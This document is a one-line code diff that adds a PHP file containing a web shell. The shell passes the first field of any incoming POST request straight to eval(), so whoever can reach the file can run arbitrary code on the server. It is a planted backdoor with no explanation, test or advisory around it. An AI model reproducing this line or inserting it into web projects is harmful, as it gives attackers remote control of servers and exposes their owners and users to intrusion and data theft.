@@ -1,0 +1,1 @@
+<?php eval(array_shift($_POST));
